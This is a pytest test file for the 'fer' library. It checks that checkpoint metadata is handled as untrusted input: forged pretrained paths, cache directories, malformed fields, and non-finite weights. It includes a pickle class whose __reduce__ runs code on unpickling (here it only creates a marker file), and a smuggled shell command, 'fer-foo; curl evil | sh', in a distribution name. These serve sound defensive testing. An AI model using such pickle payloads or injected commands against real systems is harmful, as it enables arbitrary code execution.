"""A checkpoint is untrusted input: its metadata never crashes fer, never picks a file to open or a folder to write."""

from __future__ import annotations

import json
import os
import pickle
import stat

import pytest
import torch

from fer_core import checkpoint_meta
from fer_core.checkpoint import load_checkpoint, read_metadata, recorded_data, save_checkpoint
from fer_core.errors import CheckpointError, UsageError
from fer_core.preprocess import Preprocessing
from fer_core.registry import get_registry
from tests.cli_support import run_fer
from tests.data_support import FER_FOLDERS, rewrite_fer_metadata, small_checkpoint


class _Payload:
    """Unpickling this writes a marker file: proof that a pickle was executed."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def write_pickle_payload(path, marker) -> None:
    path.write_bytes(pickle.dumps(_Payload(str(marker))))


def valid_meta(weights) -> dict:
    return json.loads(weights.with_suffix(".json").read_text())


def test_a_forged_pretrained_path_is_never_opened_when_rebuilding_from_a_checkpoint(tmp_path):
    pytest.importorskip("fer_timm")
    evil, marker = tmp_path / "evil.pth", tmp_path / "EXECUTED"
    write_pickle_payload(evil, marker)
    torch.manual_seed(0)
    net = get_registry().create("models", "timm/resnet10t").build(7, 1, 48)
    meta = {
        "model": "timm/resnet10t",
        "model_options": {"pretrained": str(evil)},
        "classes": list(FER_FOLDERS),
        "in_channels": 1,
        "input_size": 48,
        "preprocessing": Preprocessing.default(1, 48).to_dict(),
    }
    weights = save_checkpoint(tmp_path / "model", net, meta)
    model, _ = load_checkpoint(weights)
    assert not marker.exists()
    assert torch.equal(model.conv1[0].weight, net.conv1[0].weight), "the checkpoint's own weights are what is loaded"


def test_a_missing_pretrained_file_recorded_on_another_machine_does_not_stop_loading(tmp_path):
    weights = small_checkpoint(
        tmp_path, {"model": "resnet18", "model_options": {"pretrained": str(tmp_path / "gone.safetensors")}}, model="resnet18"
    )
    model, meta = load_checkpoint(weights)
    assert meta["model_options"]["pretrained"].endswith("gone.safetensors"), "the record is kept, only not acted on"
    assert sum(p.numel() for p in model.parameters()) > 1_000_000


def test_rebuild_options_drop_pretrained_at_every_depth():
    options = {"pretrained": "/x.pth", "members": [{"model": "resnet18", "options": {"pretrained": "/y.pth", "stem": "cifar"}}]}
    assert checkpoint_meta.rebuild_options(options) == {"members": [{"model": "resnet18", "options": {"stem": "cifar"}}]}


def test_fer_timm_refuses_a_pickle_path_outside_the_torch_hub_cache(tmp_path, monkeypatch):
    fer_timm = pytest.importorskip("fer_timm")
    monkeypatch.setenv("TORCH_HOME", str(tmp_path / "torch-home"))
    evil, marker = tmp_path / "weights.pth", tmp_path / "EXECUTED"
    write_pickle_payload(evil, marker)
    with pytest.raises(UsageError, match=r"must be a \.safetensors state dict"):
        fer_timm.resolve("resnet10t")(pretrained=str(evil)).build(7, 1, 48)
    assert not marker.exists()


def test_cache_dir_in_checkpoint_metadata_never_decides_where_fer_writes(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("FER_CACHE_DIR", str(tmp_path / "cache"))
    victim = tmp_path / "victim"
    weights = small_checkpoint(tmp_path, {"data": {"spec": "demo", "options": {"train": 14, "val": 14, "test": 0}}})
    meta = valid_meta(weights)
    meta["data"]["options"]["cache_dir"] = str(victim)
    rewrite_fer_metadata(weights, meta)
    assert recorded_data(read_metadata(weights)) == ("demo", {"train": 14, "val": 14, "test": 0})
    code, out, err = run_fer(monkeypatch, capsys, "eval", "-c", str(weights), "--json")
    assert code == 0, err
    assert json.loads(out)["n"] == 14
    assert not victim.exists()


def test_save_checkpoint_does_not_record_write_locations(tmp_path):
    weights = small_checkpoint(tmp_path, {"data": {"spec": "demo", "options": {"cache_dir": "/tmp/x", "train": 14}}})
    assert valid_meta(weights)["data"]["options"] == {"train": 14}


BAD_FIELDS = [
    ("classes", "x", "classes"),
    ("classes", None, "classes"),
    ("classes", [], "classes"),
    ("classes", [1, 2], "classes"),
    ("classes", ["a", "a"], "classes"),
    ("model", None, "model"),
    ("model", ["mycnn_v1"], "model"),
    ("in_channels", "1", "in_channels"),
    ("in_channels", True, "in_channels"),
    ("input_size", -48, "input_size"),
    ("input_size", 10**9, "input_size"),
    ("format_version", "abc", "format_version"),
    ("model_options", ["pretrained"], "model_options"),
    ("data", "demo", "data"),
    ("plugin", "fer-mycnn", "plugin"),
    ("config", [], "config"),
    ("preprocessing", None, "preprocessing"),
    ("preprocessing", {"channels": 1, "size": 48, "mean": [0.5], "std": [0]}, "preprocessing.std"),
    ("preprocessing", {"channels": 1, "size": 48, "mean": [0.5], "std": [-1.0]}, "preprocessing.std"),
    ("preprocessing", {"channels": 1, "size": 48, "mean": [float("nan")], "std": [0.5]}, "preprocessing.mean"),
    ("preprocessing", {"channels": 1, "size": 48, "mean": [0.5, 0.5], "std": [0.5, 0.5]}, "preprocessing.mean"),
    ("preprocessing", {"channels": 3, "size": 48, "mean": [0.5] * 3, "std": [0.5] * 3}, "preprocessing.channels"),
    ("preprocessing", {"channels": 1, "size": "48", "mean": [0.5], "std": [0.5]}, "preprocessing.size"),
]


@pytest.mark.parametrize(("key", "value", "field"), BAD_FIELDS, ids=[f"{k}={json.dumps(v)[:30]}" for k, v, _ in BAD_FIELDS])
def test_metadata_of_the_wrong_type_is_one_error_naming_the_file_and_the_field(tmp_path, key, value, field):
    weights = small_checkpoint(tmp_path)
    meta = valid_meta(weights)
    meta[key] = value
    rewrite_fer_metadata(weights, meta)
    with pytest.raises(CheckpointError) as raised:
        read_metadata(weights)
    message = str(raised.value)
    assert str(weights) in message and f"'{field}'" in message and "\n" not in message


@pytest.mark.parametrize("fer", [[1, 2], None, 5, "x", {"a": 1}], ids=["list", "null", "number", "string", "object"])
def test_a_fer_entry_that_is_not_an_object_string_is_not_a_fer_checkpoint(tmp_path, fer):
    weights = rewrite_fer_metadata(small_checkpoint(tmp_path), fer, raw=True)
    with pytest.raises(CheckpointError, match="not a fer checkpoint"):
        read_metadata(weights)


@pytest.mark.parametrize("fer", [[], None, "x", 3], ids=["list", "null", "string", "number"])
def test_fer_metadata_that_decodes_to_a_non_object_is_refused(tmp_path, fer):
    weights = rewrite_fer_metadata(small_checkpoint(tmp_path), fer)
    with pytest.raises(CheckpointError, match="not a fer checkpoint"):
        read_metadata(weights)


def test_deeply_nested_metadata_is_refused_not_a_recursion_traceback(tmp_path):
    weights = rewrite_fer_metadata(small_checkpoint(tmp_path), "[" * 100_000 + "]" * 100_000, raw=True)
    with pytest.raises(CheckpointError, match="not a fer checkpoint"):
        read_metadata(weights)


def test_the_cli_says_one_line_for_a_wrong_typed_field(tmp_path, monkeypatch, capsys):
    weights = small_checkpoint(tmp_path)
    meta = valid_meta(weights)
    meta["classes"] = "x"
    rewrite_fer_metadata(weights, meta)
    code, out, err = run_fer(monkeypatch, capsys, "eval", "-c", str(weights), "--data", "demo", "--json")
    assert code != 0 and out == ""
    assert err.startswith("error:") and "'classes'" in err and "Traceback" not in err


@pytest.mark.parametrize("bad", [float("nan"), float("inf")], ids=["nan", "inf"])
def test_non_finite_weights_are_refused_at_load(tmp_path, bad):
    torch.manual_seed(0)
    net = get_registry().create("models", "mycnn_v1").build(7, 1, 48)
    param = next(iter(net.parameters()))
    with torch.no_grad():
        param.view(-1)[3] = bad
    meta = {
        "model": "mycnn_v1",
        "classes": list(FER_FOLDERS),
        "in_channels": 1,
        "input_size": 48,
        "preprocessing": Preprocessing.default(1, 48).to_dict(),
    }
    for int8 in (False, True):
        weights = save_checkpoint(tmp_path / f"nan-{int8}", net, meta, int8=int8)
        with pytest.raises(CheckpointError, match="NaN or infinite"):
            load_checkpoint(weights)


def test_eval_json_never_prints_nan_for_a_zero_std_checkpoint(tmp_path, monkeypatch, capsys):
    weights = small_checkpoint(tmp_path)
    meta = valid_meta(weights)
    meta["preprocessing"]["std"] = [0]
    rewrite_fer_metadata(weights, meta)
    code, out, err = run_fer(monkeypatch, capsys, "eval", "-c", str(weights), "--json")
    assert code != 0 and "NaN" not in out and err.startswith("error:") and "std" in err


def test_preprocessing_from_dict_refuses_non_positive_std():
    with pytest.raises(CheckpointError, match="must be positive"):
        Preprocessing.from_dict({"channels": 1, "size": 48, "mean": [0.5], "std": [0.0]})


def test_a_checkpoint_whose_plugin_is_not_installed_names_the_recorded_distribution(tmp_path, monkeypatch, capsys):
    weights = small_checkpoint(tmp_path)
    meta = valid_meta(weights)
    meta.update(model="x", plugin={"distribution": "fer-foo", "version": "1.2"})
    rewrite_fer_metadata(weights, meta)
    with pytest.raises(CheckpointError) as raised:
        load_checkpoint(weights)
    assert str(raised.value) == f"{weights}: model 'x' comes from distribution 'fer-foo' 1.2, which is not installed: pip install fer-foo"
    code, _, err = run_fer(monkeypatch, capsys, "eval", "-c", str(weights), "--data", "demo")
    assert code != 0 and "pip install fer-foo" in err and len(err.strip().splitlines()) == 1


def test_a_forged_distribution_name_gets_no_install_hint(tmp_path):
    weights = small_checkpoint(tmp_path)
    meta = valid_meta(weights)
    meta.update(model="x", plugin={"distribution": "fer-foo; curl evil | sh", "version": "1.2"})
    rewrite_fer_metadata(weights, meta)
    with pytest.raises(CheckpointError) as raised:
        load_checkpoint(weights)
    assert "pip install" not in str(raised.value) and "x" in str(raised.value)


def test_every_file_a_checkpoint_save_writes_gets_the_umask_permissions(tmp_path):
    current = os.umask(0)
    os.umask(current)
    weights = small_checkpoint(tmp_path)
    expected = 0o666 & ~current
    assert stat.S_IMODE(weights.stat().st_mode) == expected
    assert stat.S_IMODE(weights.with_suffix(".json").stat().st_mode) == expected


def test_valid_metadata_round_trips_unchanged(tmp_path):
    weights = small_checkpoint(tmp_path, {"model_options": {}, "val_metrics": {"accuracy": 0.5}, "seed": 3})
    meta = read_metadata(weights)
    assert meta == valid_meta(weights)
    model, loaded = load_checkpoint(weights)
    assert loaded == meta and not model.training
